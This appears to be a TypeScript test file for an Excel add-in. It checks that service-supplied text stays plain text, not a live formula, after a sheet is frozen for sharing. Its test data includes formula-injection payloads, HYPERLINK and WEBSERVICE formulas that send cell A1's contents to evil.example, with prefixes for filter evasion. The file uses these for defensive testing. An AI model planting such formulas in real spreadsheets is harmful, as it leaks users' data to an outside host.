import { freezeForSharing } from "../../src/office/freeze/freeze";
import { RECEIPT_SHEET } from "../../src/office/refresh/scope-ranges";
import { freezeOptions } from "./sheet-options";
import { FakeWorkbook } from "../support/office-fake/fake-workbook";

/**
 * Freezing writes what a cell shows back as a constant. Text the service sent must stay text: Excel reads a
 * string written through Range.values that starts with "=", "+", "-" or "@" (after any blank or control
 * characters) as a formula, and text that looks like a number, a date, a boolean or an error as one of those.
 */
const SIGNS = ["=", "+", "-", "@"];
const BEFORE = ["", "\t", "\r", " ", "\u00a0", "\u0000"];
const HOSTILE = BEFORE.flatMap((lead) =>
  SIGNS.map((sign) => `${lead}${sign}HYPERLINK("http://evil.example/?"&A1,"open")`),
);
const LOOKALIKES = ["1.5", "-2", "2025-01-06", "TRUE", "#N/A", "'quoted", "=1+1", "+44 20 7946 0000"];
const TEXTS = [...HOSTILE, ...LOOKALIKES];

/** A sheet whose INDEX cells show the texts above (one per row of column B), as a hostile service would make them. */
async function sheetOfTexts(): Promise<FakeWorkbook> {
  const book = new FakeWorkbook(async (formula) => {
    const row = Number(/INDEX\.LATEST\("T(\d+)"/.exec(formula)?.[1]);
    return [[TEXTS[row] ?? "#N/A"]];
  });
  TEXTS.forEach((_, row) => book.type(`Sheet1!B${row + 1}`, `=INDEX.LATEST("T${row}","status")`));
  await book.settled();
  return book;
}

test("every text the cells show is still that exact text after freezing, and nothing in the workbook is a formula", async () => {
  const book = await sheetOfTexts();
  // The sheet really shows these texts before freezing.
  expect(TEXTS.map((_, row) => book.shown(`Sheet1!B${row + 1}`))).toEqual(TEXTS);

  const outcome = await freezeForSharing(book.context, freezeOptions({ scope: "sheet" }));

  expect(outcome.frozen).toBe(TEXTS.length);
  expect(book.liveFormulas()).toEqual({});
  TEXTS.forEach((text, row) =>
    expect([row, book.read("Sheet1", row, 1)]).toEqual([row, expect.objectContaining({ value: text })]),
  );
});

test("service text in the receipt (a status as publication mode, an error message) stays text too", async () => {
  const book = await sheetOfTexts();
  const options = freezeOptions({
    scope: "sheet",
    provenanceOf: () => ({ asOf: "2025-01-06", publicationMode: '=WEBSERVICE("http://evil.example/"&A1)' }),
    errorOf: () => '-HYPERLINK("http://evil.example")',
  });
  await freezeForSharing(book.context, options);
  expect(book.liveFormulas()).toEqual({});
  const receipt = book.usedValues(RECEIPT_SHEET);
  expect(receipt.slice(1).map((row) => row[4])).toEqual(TEXTS.map(() => "2025-01-06"));
  expect(receipt.slice(1).map((row) => row[5])).toEqual(TEXTS.map(() => '=WEBSERVICE("http://evil.example/"&A1)'));
});
